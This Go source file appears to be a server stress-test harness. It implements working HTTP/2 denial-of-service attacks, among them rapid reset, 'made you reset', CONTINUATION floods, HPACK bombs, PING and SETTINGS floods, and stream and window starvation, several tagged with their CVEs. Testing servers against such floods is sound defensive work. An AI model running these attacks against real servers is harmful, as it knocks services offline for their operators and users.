//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Attacker writes frames of HTTP/2, whatever the server makes of them.
type h2Attacker struct {
	*attacker
	*http2.Framer
	out   bytes.Buffer
	block bytes.Buffer
	enc   *hpack.Encoder
	last  uint32 // stream that was opened last
}

// over2 makes an attack of one step that is repeated on a connection whose preface was sent. settings are
// the client's own.
func over2(step func(a *h2Attacker), settings ...http2.Setting) func(*attacker) {
	return func(conn *attacker) {
		a := newH2Attacker(conn, settings...)
		conn.drain()
		for !conn.over() {
			step(a)
			if a.out.Len() < 4<<10 {
				continue
			}
			if !a.flush() {
				return
			}
		}
	}
}

// begun makes an attack whose first step is done once, and the connection held if there is no second.
func begun(first, then func(a *h2Attacker), settings ...http2.Setting) func(*attacker) {
	return func(conn *attacker) {
		a := newH2Attacker(conn, settings...)
		conn.drain()
		first(a)
		if !a.flush() {
			return
		}
		if then == nil {
			conn.hold()
			return
		}
		for {
			then(a)
			if a.out.Len() > 4<<10 && !a.flush() {
				return
			}
		}
	}
}

func newH2Attacker(conn *attacker, settings ...http2.Setting) *h2Attacker {
	a := &h2Attacker{attacker: conn}
	a.Framer = http2.NewFramer(&a.out, nil)
	a.AllowIllegalWrites = true
	a.enc = hpack.NewEncoder(&a.block)
	a.out.WriteString(http2.ClientPreface)
	_ = a.WriteSettings(settings...)
	a.last = 1
	return a
}

// flush sends what was written, and reports whether the attack may go on.
func (a *h2Attacker) flush() bool {
	ok := a.write(a.out.Bytes())
	a.out.Reset()
	return ok
}

// request opens the next stream.
func (a *h2Attacker) request(method, path string, end bool, fields ...string) uint32 {
	a.block.Reset()
	for i, lines := 0, append([]string{":method", method, ":scheme", "http", ":path", path, ":authority", "a"}, fields...); i+1 < len(lines); i += 2 {
		_ = a.enc.WriteField(hpack.HeaderField{Name: lines[i], Value: lines[i+1]})
	}
	a.last += 2
	_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.last, BlockFragment: a.block.Bytes(), EndHeaders: true, EndStream: end})
	return a.last
}

// closedWindows are the settings of a client that takes nothing.
var closedWindows = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

var http2Attacks = []attack{
	// CVE-2023-44487, rapid reset.
	{name: "h2 rapid reset", run: over2(func(a *h2Attacker) {
		_ = a.WriteRSTStream(a.request("GET", "/delay/1h", true), http2.ErrCodeCancel)
	})},
	// CVE-2025-8671, made you reset: the server is made to reset.
	{name: "h2 made you reset", run: over2(func(a *h2Attacker) { _ = a.WriteWindowUpdate(a.request("GET", "/delay/1h", true), 0) })},
	{name: "h2 made you reset by overflow", run: over2(func(a *h2Attacker) {
		stream := a.request("GET", "/delay/1h", true)
		_ = a.WriteWindowUpdate(stream, 1<<31-1)
	})},
	{name: "h2 streams beyond the limit", run: over2(func(a *h2Attacker) { a.request("GET", "/delay/1h", true) })},
	{name: "h2 streams behind GOAWAY", run: begun(
		func(a *h2Attacker) { _ = a.WriteGoAway(0, http2.ErrCodeNo, nil) },
		func(a *h2Attacker) { a.request("GET", "/", true) })},
	// CVE-2024-27316: CONTINUATION without end.
	{name: "h2 CONTINUATION", run: begun(
		func(a *h2Attacker) {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: []byte{0x82}})
		},
		func(a *h2Attacker) { _ = a.WriteContinuation(3, false, []byte{0x82}) })},
	{name: "h2 empty CONTINUATION", run: begun(
		func(a *h2Attacker) {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: []byte{0x82}})
		},
		func(a *h2Attacker) { _ = a.WriteContinuation(3, false, nil) })},
	// CVE-2019-9512, 9515, 9513, 9518.
	{name: "h2 PING", run: over2(func(a *h2Attacker) { _ = a.WritePing(false, [8]byte{}) })},
	{name: "h2 SETTINGS", run: over2(func(a *h2Attacker) { _ = a.WriteSettings() })},
	{name: "h2 window sizes to and fro", run: begun(
		func(a *h2Attacker) {
			for range 100 {
				a.request("GET", "/bytes/1MiB", true)
			}
		},
		func(a *h2Attacker) {
			_ = a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
			_ = a.WriteSettings(closedWindows)
		}, closedWindows)},
	{name: "h2 PRIORITY", run: over2(func(a *h2Attacker) {
		a.last += 2
		_ = a.WritePriority(a.last, http2.PriorityParam{StreamDep: 1})
	})},
	{name: "h2 PRIORITY_UPDATE", run: over2(func(a *h2Attacker) {
		a.last += 2
		_ = a.WriteRawFrame(0x10, 0, 0, append(binary.BigEndian.AppendUint32(nil, a.last), "u=1"...))
	})},
	{name: "h2 empty DATA", run: begun(
		func(a *h2Attacker) { a.request("POST", "/echo", false) },
		func(a *h2Attacker) { _ = a.WriteData(3, false, nil) })},
	{name: "h2 one-byte DATA", peers: 8, run: begun(
		func(a *h2Attacker) { a.request("POST", "/upload", false) },
		func(a *h2Attacker) { _ = a.WriteData(3, false, []byte("x")) })},
	// CVE-2019-9511: windows that open byte by byte.
	{name: "h2 dribble", run: begun(
		func(a *h2Attacker) {
			for range 100 {
				a.request("GET", "/bytes/1MiB", true)
			}
		},
		func(a *h2Attacker) {
			for stream := uint32(3); stream < 203; stream += 2 {
				_ = a.WriteWindowUpdate(stream, 1)
			}
		}, closedWindows)},
	{name: "h2 WINDOW_UPDATE", run: over2(func(a *h2Attacker) { _ = a.WriteWindowUpdate(0, 1) })},
	{name: "h2 DATA on closed streams", run: begun(
		func(a *h2Attacker) { a.request("GET", "/", true) },
		func(a *h2Attacker) { _ = a.WriteData(3, false, []byte("x")) })},
	{name: "h2 unknown frames", run: over2(func(a *h2Attacker) { _ = a.WriteRawFrame(0xbe, 0, 0, []byte("grease")) })},
	// One long entry of the dynamic table, named over and over.
	{name: "h2 HPACK bomb", run: begun(
		func(a *h2Attacker) { a.request("GET", "/", true, "x", strings.Repeat("a", 3900)) },
		func(a *h2Attacker) {
			a.request("GET", "/", true, strings.Split(strings.Repeat("x,"+strings.Repeat("a", 3900)+",", 400), ",")...)
		})},
	{name: "h2 HPACK churn", run: over2(func(a *h2Attacker) {
		name := "x-" + string(binary.BigEndian.AppendUint32(nil, a.last|0x61616161))
		a.request("GET", "/", true, name, "y", name+"b", "y", name+"c", "y")
	})},
	// Answers whose windows never open.
	{name: "h2 answers unread", peers: 4, run: begun(func(a *h2Attacker) {
		for range 249 {
			a.request("GET", "/headers", true, "x", strings.Repeat("<", 3000))
		}
	}, nil, closedWindows)},
	{name: "h2 large answers unread", peers: 4, run: begun(func(a *h2Attacker) {
		for range 249 {
			a.request("GET", "/bytes/1GiB", true)
		}
	}, nil, closedWindows)},
	{name: "h2 hoarders", peers: 50, run: begun(func(a *h2Attacker) {
		for range 249 {
			a.request("GET", "/delay/1h", true)
		}
	}, nil)},
	{name: "h2 uploads that wait", peers: 20, run: begun(func(a *h2Attacker) {
		for range 249 {
			a.request("POST", "/upload", false)
		}
	}, nil)},
	{name: "h2 leavers", peers: 4, backlog: true, run: begun(func(a *h2Attacker) {
		for range 249 {
			a.request("GET", "/delay/1h", true)
		}
		a.flush()
		_ = a.Conn.Close()
	}, nil)},
	{name: "h2 preface and silence", peers: 300, run: begun(func(*h2Attacker) {}, nil)},
}
